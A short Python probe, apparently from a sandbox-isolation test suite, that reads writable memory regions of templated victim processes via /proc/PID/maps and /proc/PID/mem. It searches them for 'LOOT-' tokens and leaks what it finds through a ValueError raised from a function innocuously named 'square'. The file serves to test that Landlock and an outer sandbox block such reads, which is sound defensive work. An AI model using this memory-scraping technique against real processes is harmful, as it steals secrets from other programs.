"""Reads the memory of another process through procfs.

stopped by: Landlock, and the outer wall
witness: loot
control: open
"""

import contextlib
import re

VICTIMS = "@VICTIMS@"


def memory(pid):
    with open(f"/proc/{pid}/maps") as maps:
        ranges = [line.split()[0].split("-") for line in maps if " rw" in line]
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as pages:
        for begin, end in ranges:
            with contextlib.suppress(OSError):
                pages.seek(int(begin, 16))
                yield pages.read(int(end, 16) - int(begin, 16))


def square(x):
    found = set()
    for pid in VICTIMS.split():
        with contextlib.suppress(OSError):
            for piece in memory(pid):
                found.update(re.findall(rb"LOOT-[0-9a-f]{32}", piece))
    raise ValueError(str(found))
